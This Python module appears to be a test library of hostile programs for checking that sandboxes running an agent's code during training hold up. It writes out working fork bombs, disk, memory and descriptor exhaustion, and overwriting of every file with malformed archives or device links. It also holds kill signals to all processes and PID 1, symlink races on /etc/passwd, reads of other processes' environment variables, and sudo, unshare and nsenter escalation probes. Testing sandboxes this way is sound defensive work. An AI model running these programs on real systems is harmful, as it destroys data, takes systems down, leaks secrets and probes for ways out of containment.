"""Hostile programs for worlds that run an agent's code, by category and name.

Each is written in bash, or in Python, which bash or a Python session runs. `{port}`, `{abstract}`, `{file}` and
`{folder}` stand for canaries (see `canary`), `{mark}` for a number of seconds by which a process that outlives its play
is found, `{names}` and `{words}` for the files that the task names, as a Python list and as bash words. No program may
earn a reward, block the trainer, or end its play as an infrastructure failure.
"""

from __future__ import annotations

import json
import shlex
import textwrap
from collections.abc import Mapping
from dataclasses import dataclass

C = "import ctypes, os, struct, time\nc = ctypes.CDLL(None, use_errno=True)\n"
EACH = "import glob\nfor name in {names} + glob.glob('*'):\n"
SPARSE_TAR = """
import gzip, tarfile
def member(name, size):
    head = tarfile.TarInfo(name)
    head.type, head.size = b"S", 512
    block = bytearray(head.tobuf(tarfile.GNU_FORMAT))
    block[386:482] = b"%011o\\0%011o\\0" % (0, 512) + bytes(72)
    block[482:495] = b"\\0" + b"%011o\\0" % min(size, 8**11 - 1)
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\\0 " % sum(block[:512])
    return bytes(block) + b"x" * 512
sizes = [3 << 20] * 3000 + [3 << 24] * 100 + [3 << 31] * 10
data = b"".join(member(f"data/{n}.txt", size) for n, size in enumerate(sizes)) + bytes(1024)
"""


@dataclass(frozen=True)
class Program:
    """The text of a program, in bash or in Python."""

    text: str
    bash: bool

    def in_bash(self) -> str:
        return self.text if self.bash else f"python3 - <<'PYTHON'\n{self.text}\nPYTHON"

    def in_python(self) -> str:
        run = "import subprocess\nprint(subprocess.run(['bash', '-c', {}], capture_output=True, text=True).stdout)"
        return run.format(repr(self.text)) if self.bash else self.text


def _bash(text: str) -> Program:
    return Program(text, bash=True)


def _python(text: str, before: str = "") -> Program:
    return Program(before + textwrap.dedent(text).strip("\n"), bash=False)


def _each(text: str, before: str = "") -> Program:
    """Returns a Python program that runs `text` for every file and ignores exceptions."""
    body = textwrap.indent(textwrap.dedent(text).strip("\n"), " " * 8)
    return Program(f"{before}{EACH}    try:\n{body}\n    except Exception:\n        pass", bash=False)


NOTHING = _bash("true")
BOMBS: Mapping[str, Program] = {
    "forks": _bash(":(){ :|:& };:; sleep 1"),
    "memory": _python("""
        held = []
        while True:
            held.append(bytearray(b"x" * 10**7))
        """),
    "memory of many processes": _python("""
        import os
        for _ in range(40):
            if not os.fork():
                break
        held = []
        while True:
            held.append(bytearray(b"x" * 10**6))
        """),
    "disk": _bash("for d in . /tmp /dev/shm /var/tmp; do cat /dev/zero > $d/zeros; done 2>/dev/null"),
    "files": _bash("for i in {1..100000}; do : > f$i || break; done 2>/dev/null"),
    "folders": _python("""
        import os
        while True:
            os.mkdir("d")
            os.chdir("d")
        """),
    "socket buffers": _python("""
        import socket
        held = []
        while True:
            a, b = socket.socketpair()
            held += [a, b]
            a.setblocking(False)
            a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            try:
                while True:
                    a.send(b"x" * 65536)
            except OSError:
                pass
        """),
    "sockets in flight": _python("""
        import array, socket
        a, b = socket.socketpair()
        while True:
            c, d = socket.socketpair()
            d.setblocking(False)
            try:
                while True:
                    d.send(b"x" * 65536)
            except OSError:
                pass
            a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [c.fileno(), d.fileno()]))])
        """),
    "pipes": _python("""
        import fcntl, os, time
        held = []
        for _ in range(10**5):
            try:
                held.append(os.pipe())
                fcntl.fcntl(held[-1][0], 1031, 1 << 20)
            except OSError:
                if os.fork():
                    time.sleep(3)
                    break
        """),
    "watches": _python(
        """
        count = 0
        while count < 10_000 and c.inotify_init() >= 0:
            count += 1
        print(count)
        os.fork() or time.sleep(1)
        """,
        C,
    ),
    "timers": _python(
        """
        timer, count = ctypes.c_void_p(), 0
        while count < 10**6 and not c.timer_create(1, None, ctypes.byref(timer)):
            count += 1
        print(count)
        """,
        C,
    ),
    "sparse archives over every file": _each(
        'open(name, "wb").write(gzip.compress(data) if name.endswith("gz") else data)', SPARSE_TAR
    ),
    "deep JSON over every file": _each('open(name, "w").write("[" * 10**6)'),
    "long numbers over every file": _each('open(name, "w").write("9" * 10**6)'),
    "many lines over every file": _each('open(name, "w").write("0\\n" * 5_000_000)'),
    "holes over every file": _each("""
        open(name, "wb").truncate(10**7)
        open(name, "wb").truncate(1 << 33)
        """),
    "views without end in every database": _each(
        """
        base = sqlite3.connect(name)
        for (table,) in base.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
            base.execute(f'DROP TABLE "{table}"')
            base.execute(f'CREATE VIEW "{table}" AS {ENDLESS}')
        base.commit()
        """,
        'import sqlite3\nENDLESS = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) '
        'SELECT x AS id, x AS name, x AS amount FROM c"\n',
    ),
    "links in a circle over every file": _bash('for n in {words} *; do rm -rf "$n"; ln -s "$n" "$n"; done; true'),
    "pipes over every file": _bash('for n in {words} *; do rm -rf "$n"; mkfifo "$n"; done; true'),
    "links to devices over every file": _bash('for n in {words} *; do rm -rf "$n"; ln -s /dev/zero "$n"; done; true'),
    "links to memory over every file": _bash('for n in {words} *; do rm -rf "$n"; ln -s /proc/1/mem "$n"; done; true'),
    "nothing may be read": _bash("chmod 000 {words} * . 2>/dev/null; true"),
}

SIGNALS: Mapping[str, Program] = {
    "to all": _bash("kill -STOP -1; kill -CONT -1; kill -TERM -1; kill -KILL -1"),
    "to the first process": _bash("for s in STOP SEGV INT TERM HUP KILL; do kill -$s 1; done; kill -9 $PPID"),
    "a timer that wakes": _python(
        """
        if not os.fork():
            os.setsid()
            event, timer = struct.pack("PiiP", 0, 18, 0, 0) + bytes(64), ctypes.c_void_p()
            c.timer_create(1, event, ctypes.byref(timer))
            c.timer_settime(timer, 0, struct.pack("qqqq", 0, 5 * 10**6, 0, 5 * 10**6), None)
            held = []
            while True:
                held.append(bytearray(b"x" * 10**6))
                open(f"woken{len(held) % 9}", "w").write("x")
                os.unlink(f"woken{len(held) % 9}")
                time.sleep(0.001)
        """,
        C,
    ),
    "notes that wake": _python(
        """
        import fcntl
        if not os.fork():
            folder = os.open(".", os.O_RDONLY)
            try:
                fcntl.fcntl(folder, 10, 18)
                fcntl.fcntl(folder, 1026, 0x8000003F)
            except OSError as error:
                print(error)
            while True:
                time.sleep(0.01)
                open("noted", "w").close()
                os.unlink("noted")
        """,
        C,
    ),
    "children whose ends wake": _python(
        """
        if not os.fork():
            for n in range(50):
                c.syscall(56, 18, 0, 0, 0, 0) or (time.sleep(0.05 * n), os._exit(0))
            while True:
                time.sleep(0.01)
        """,
        C,
    ),
    "none is heard": _bash("trap '' HUP INT TERM XCPU ALRM PIPE; (setsid sleep {mark}) & sleep {mark} & disown -a"),
}

RACES: Mapping[str, Program] = {
    "files that come and go": _python("""
        import os
        for _ in range(8):
            if not os.fork():
                os.setsid()
                while True:
                    for n in range(50):
                        try:
                            open(f"r{n}", "w").write("x")
                            os.rename(f"r{n}", f"s{n}")
                            os.unlink(f"s{n}")
                        except OSError:
                            pass
        """),
    "files that turn into links": _python("""
        import os
        for _ in range(8):
            if not os.fork():
                os.setsid()
                while True:
                    for n in {names} or ["a"]:
                        try:
                            os.symlink("/etc/passwd", n + "~")
                            os.rename(n + "~", n)
                            open(n + "~", "w").close()
                            os.rename(n + "~", n)
                        except OSError:
                            pass
        """),
    "folders that turn into files": _bash(
        "(while :; do mkdir -p q/w/e; touch q/w/e/r; rm -rf q; touch q; rm -f q; done) 2>/dev/null &\n"
        "(while :; do mv q p; mv p q; done) 2>/dev/null & disown -a"
    ),
    "leases on every file": _python("""
        import fcntl, glob, os, signal, time
        if not os.fork():
            os.setsid()
            signal.signal(signal.SIGIO, signal.SIG_IGN)
            held = []
            for n in {names} + glob.glob("*"):
                try:
                    held.append(open(n, "a"))
                    fcntl.fcntl(held[-1], 1024, 1)
                except OSError:
                    pass
            while True:
                time.sleep(1)
        """),
    "locks on every file": _python("""
        import fcntl, glob, os, time
        if not os.fork():
            os.setsid()
            held = []
            for n in {names} + glob.glob("*"):
                try:
                    held.append(open(n, "a"))
                    fcntl.lockf(held[-1], 2)
                except OSError:
                    pass
            while True:
                time.sleep(1)
        """),
}

STALLS: Mapping[str, Program] = {
    "sleeping": _bash("sleep {mark}"),
    "spinning": _bash("while :; do :; done"),
    "a pipe without an end": _bash("mkfifo p; cat p"),
    "stopping itself": _bash("kill -STOP $$"),
    "words without end": _bash("yes"),
    "words to every descriptor": _bash("for fd in {0..255}; do head -c 100000 /dev/zero >&$fd; done 2>/dev/null; true"),
    "small pipes": _python("""
        import fcntl, os
        for fd in range(256):
            try:
                fcntl.fcntl(fd, 1031, 4096)
            except OSError:
                pass
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    fcntl.fcntl(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK), 1031, 4096)
            except OSError:
                pass
        """),
    "descriptors closed": _bash('exec 0<&- 1>&- 2>&-; for fd in {3..255}; do eval "exec $fd>&-"; done'),
    "a slow death": _python("""
        import mmap, os
        memory = mmap.mmap(-1, 4 * 10**8)
        for place in range(0, len(memory), 4096):
            memory[place] = 1
        os._exit(0)
        """),
}

REACHING: Mapping[str, Program] = {
    "services on loopback": _python("""
        import socket
        for family, place in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0{abstract}")):
            try:
                socket.socket(family).connect(place)
            except OSError as error:
                print(error)
        """),
    "the file of a neighbour": _bash("echo x > {file}; rm -rf {folder}; ls {folder}; true"),
    "what is said to others": _bash("cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | tail -c 9000"),
    "more rights": _bash("sudo -n true; unshare -Ur true; mount -t tmpfs x .; chroot / true; nsenter -t 1 -a true"),
}

PROGRAMS: Mapping[str, Mapping[str, Program]] = {
    "bombs": BOMBS,
    "signals": SIGNALS,
    "races": RACES,
    "stalls": STALLS,
    "injection": REACHING,
}


def programs(category: str, places: Mapping[str, str], names: list[str]) -> dict[str, Program]:
    """Returns the programs of one category by name, with `places` and the files of a task filled in."""
    filled = {**places, "names": json.dumps(names), "words": shlex.join(names)}
    by_name: dict[str, Program] = {}
    for title, program in PROGRAMS.get(category, {}).items():
        text = program.text
        for name, value in filled.items():
            text = text.replace("{" + name + "}", value)
        by_name[title] = Program(text, program.bash)
    return by_name
